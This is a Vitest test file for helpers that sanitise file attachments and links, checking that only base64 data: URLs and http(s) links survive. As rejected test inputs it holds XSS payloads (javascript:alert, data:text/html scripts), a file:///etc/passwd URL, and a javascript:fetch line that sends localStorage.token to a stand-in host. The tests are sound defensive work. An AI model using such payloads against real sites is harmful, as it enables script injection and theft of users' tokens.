import { describe, expect, it } from 'vitest'
import { base64DataUrl, dataUrlBlob, fileEntries, readFiles, safeHttpUrl } from './files'
import { MAX_ATTACHMENT_BYTES } from './form'

describe('files: context values are never links', () => {
  it('accepts base64 data: URLs only', () => {
    expect(base64DataUrl('data:application/pdf;base64,JVBERg==')).toBe('data:application/pdf;base64,JVBERg==')
    expect(base64DataUrl('data:;base64,eA==')).toBe('data:;base64,eA==')
    for (const bad of [
      'javascript:alert(1)',
      'JavaScript:alert(1)',
      ' javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;base64,PHNjcmlwdD4=<x>',
      'http://evil.example/x.pdf',
      'vbscript:msgbox(1)',
      42,
      null,
    ]) {
      expect(base64DataUrl(bad)).toBeUndefined()
    }
  })

  it('reads file fields without keeping anything openable that is not a data: URL', () => {
    const v = [
      { name: 'quote.pdf', size: 3, type: 'application/pdf', data_url: 'data:application/pdf;base64,cGRm' },
      { name: 'evil', data_url: 'javascript:fetch("//x/"+localStorage.token)' },
      { name: 'link', href: 'https://evil.example' },
      '01a2-att',
      'javascript:alert(1)',
      7,
    ]
    const out = fileEntries(v)
    expect(out[0]).toEqual({ name: 'quote.pdf', size: 3, type: 'application/pdf', dataUrl: 'data:application/pdf;base64,cGRm' })
    expect(out[1]).toEqual({ name: 'evil' })
    expect(out[2]).toEqual({ name: 'link' })
    expect(out[3]).toEqual({ name: '01a2-att', id: '01a2-att' })
    expect(out[4]).toEqual({ name: 'file 5' })
    expect(out[5]).toEqual({ name: 'file 6' })
    expect(fileEntries('javascript:alert(1)')).toEqual([])
  })

  it('decodes a file as bytes to save, never as a page', async () => {
    const b = dataUrlBlob('data:text/html;base64,' + btoa('<script>alert(1)</script>'))
    expect(b.type).toBe('application/octet-stream')
    expect(await b.text()).toBe('<script>alert(1)</script>')
    expect(() => dataUrlBlob('javascript:alert(1)')).toThrow()
  })

  it('links http(s) only', () => {
    expect(safeHttpUrl('https://example.com/a?b=1')).toBe('https://example.com/a?b=1')
    expect(safeHttpUrl('http://example.com')).toBe('http://example.com/')
    for (const bad of ['javascript:alert(1)', 'java\nscript:alert(1)', 'data:text/html,x', '//evil.example', '/relative', 'file:///etc/passwd', '', undefined]) {
      expect(safeHttpUrl(bad)).toBeUndefined()
    }
  })
})

describe('readFiles', () => {
  it('reads chosen files into a file field’s values, their bytes as base64 data: URLs', async () => {
    const bytes = new Uint8Array(100 * 1024).map((_, i) => (i * 7919) % 251) // past one conversion chunk
    const pdf = new File([bytes], 'scan.pdf', { type: 'application/pdf' })
    const note = new File(['héllo'], 'note', { type: '' })
    const { files, tooLarge } = await readFiles([pdf, note])
    expect(tooLarge).toEqual([])
    expect(files.map(({ name, size, type }) => ({ name, size, type }))).toEqual([
      { name: 'scan.pdf', size: bytes.length, type: 'application/pdf' },
      { name: 'note', size: 6, type: '' },
    ])
    expect(files[0].data_url).toBe(`data:application/pdf;base64,${Buffer.from(bytes).toString('base64')}`)
    // As FileReader.readAsDataURL says a file without a type.
    expect(files[1].data_url).toBe(`data:application/octet-stream;base64,${Buffer.from('héllo').toString('base64')}`)
    // What was read is what the pages offer back as a download, byte for byte.
    const entries = fileEntries(files)
    expect(entries.map((e) => e.dataUrl)).toEqual(files.map((f) => f.data_url))
    expect(Buffer.from(await dataUrlBlob(entries[0].dataUrl!).arrayBuffer()).equals(Buffer.from(bytes))).toBe(true)
  })

  it('leaves out files over the limit and names them', async () => {
    const big = new File([new Uint8Array(MAX_ATTACHMENT_BYTES + 1)], 'big.bin')
    const small = new File(['x'], 'small.txt', { type: 'text/plain' })
    const { files, tooLarge } = await readFiles([big, small])
    expect(files.map((f) => f.name)).toEqual(['small.txt'])
    expect(tooLarge.map((f) => f.name)).toEqual(['big.bin'])
    expect((await readFiles([small], 0)).tooLarge.map((f) => f.name)).toEqual(['small.txt'])
    expect(await readFiles([])).toEqual({ files: [], tooLarge: [] })
  })
})
